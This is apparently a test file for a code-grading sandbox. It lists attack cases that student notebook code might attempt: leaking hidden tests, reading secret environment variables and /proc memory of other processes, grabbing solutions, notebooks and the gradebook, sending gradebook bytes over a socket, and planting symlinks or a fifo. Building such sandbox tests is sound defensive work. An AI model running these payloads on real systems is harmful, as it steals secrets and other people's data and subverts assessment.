"""Section D: learning what should stay hidden."""

from tests.judge.attacks.attack import attack, before, leaked, outlived, says

LEAKS = (
    attack("the history of the shell", "D", "the hidden tests", cells={"after": "print(In)"}, evidence=leaked),
    attack("a hook before each cell", "D", "the hidden tests", before("""
        get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
        """), evidence=leaked),
    attack("a file written by a hook before each cell", "D", "the hidden tests, to be fetched later", before("""
        def keep(info): open("@COURSE@/kept.txt", "a").write(info.raw_cell)
        get_ipython().events.register("pre_run_cell", keep)
        """), evidence=outlived),
    attack("the source of the caller", "D", "the hidden tests", """
        import inspect
        def softmax(x):
            for about in inspect.stack(): print(about.code_context, about.frame.f_globals.get("In"))
            return x
        """, evidence=leaked),
    attack("the cache of source lines", "D", "the hidden tests", cells={"after": """
        import linecache
        print([lines for _, _, lines, *_ in map(tuple, (v for v in linecache.cache.values() if len(v) > 1))])
        """}, evidence=leaked),
    attack("every object that the collector knows", "D", "the hidden tests, and secrets", cells={"after": """
        import gc
        for found in gc.get_objects():
            if isinstance(found, list | dict | tuple):
                for item in (found.values() if isinstance(found, dict) else found):
                    if isinstance(item, str) and ("-".join(("# hidden", "tests")) in item or "-".join(("a", "secret")) in item[:300]): print(item[:300])
        """}, evidence=leaked),
    attack("the environment of the caller", "D", "keys and tokens", before("""
        import os
        print({name: text for name, text in os.environ.items() if name.startswith("SECRET")})
        """), evidence=leaked),
    attack("the environment of the parent", "D", "keys and tokens", before("""
        import glob
        for path in glob.glob("/proc/[0-9]*/environ"):
            try: print([part for part in open(path, "rb").read().split(b"\\0") if part.startswith(b"SECRET")], end="")
            except OSError: pass
        """), evidence=leaked),
    attack("the solution", "D", "to hand it on", before("""
        for path in ("../../source/solution.py", "@COURSE@/source/solution.py"):
            try: print(open(path).read())
            except OSError: pass
        """), evidence=leaked),
    attack("another student's notebook", "D", "to hand it on", before("""
        import glob
        for path in glob.glob("../../submitted/*/*") + glob.glob("@COURSE@/submitted/*/*"): print(path, open(path).read())
        """), evidence=leaked),
    attack("another student's notebook by a link", "D", "to hand it on", before("""
        import os
        os.symlink("@COURSE@/submitted/alice/cells.json", "link")
        try: print(open("link").read())
        except OSError: pass
        """), evidence=leaked),
    attack("the gradebook", "D", "the marks of others", before("""
        for path in ("../../gradebook.db", "@COURSE@/gradebook.db"):
            try: print(open(path, "rb").read())
            except OSError: pass
        """), evidence=leaked),
    attack("every file that can be found", "D", "the course, wherever it lies", before("""
        import os
        for folder, folders, names in os.walk("@ABOVE@"):
            for name in names:
                if name in ("solution.py", "cells.json", "gradebook.db"):
                    try: print(open(os.path.join(folder, name), errors="replace").read())
                    except OSError: pass
        """), evidence=leaked),
    attack("the memory of the parent", "D", "all that the grader knows", before("""
        import os
        try:
            parent = os.getppid()
            with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as memory:
                for line in maps:
                    if "[heap]" in line:
                        first, last = (int(part, 16) for part in line.split()[0].split("-"))
                        memory.seek(first)
                        print("read", len(memory.read(min(last - first, 10**5))) > 0)
        except OSError: pass
        """), evidence=says("read True")),
    attack("a hundred bytes of the gradebook sent away", "D", "the marks of others, elsewhere", before("""
        import socket
        data = b"nothing"
        for path in ("../../gradebook.db", "@COURSE@/gradebook.db"):
            try: data = open(path, "rb").read(100)
            except OSError: pass
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as server: server.send(data)
        except OSError: pass
        """), evidence=lambda outcome: bool(outcome.sent)),
    attack("a message to a program on this machine", "D", "whatever listens on an abstract address", before("""
        import socket
        try:
            with socket.socket(socket.AF_UNIX) as server:
                server.connect("\\0here-@NONCE@")
                server.send(b"hello")
        except OSError: pass
        """), evidence=lambda outcome: bool(outcome.sent)),
    attack("what other processes were started with", "own", "names and paths of the grader", before("""
        import glob
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try: print(open(path, "rb").read().replace(b"stock.py", b"a-secret-of-the-" + b"caller").replace(b"crossattn", b"a-secret-of-the-" + b"caller"))
            except OSError: pass
        """), evidence=leaked),
    attack("the root folders of other processes", "own", "the course, by a way around", before("""
        import glob
        for path in glob.glob("/proc/[0-9]*/root/@COURSE@/gradebook.db"):
            try: print(open(path, "rb").read())
            except OSError: pass
        """), evidence=leaked),
    attack("the key of the course", "own", "the inputs, before they are drawn", before("""
        for path in ("../../course.key", "@COURSE@/course.key"):
            try: print(open(path).read())
            except OSError: pass
        """), evidence=leaked),
    attack("a link to the gradebook left in its own folder", "own", "the marker's tools follow it", before("""
        import os
        try: os.symlink("@COURSE@/gradebook.db", "@COURSE@/autograded/mallory/data.txt")
        except OSError: pass
        try: print(open("@COURSE@/autograded/mallory/data.txt", "rb").read())
        except OSError: pass
        """), evidence=leaked),
    attack("a fifo that whoever opens it waits for", "own", "the next tool that reads the folder hangs", before("""
        import os
        try:
            os.mkfifo("@COURSE@/submitted/mallory/fifo")
            print("made a fifo in the course")
        except OSError: pass
        """), evidence=says("made a fifo in the course")),
)  # fmt: skip
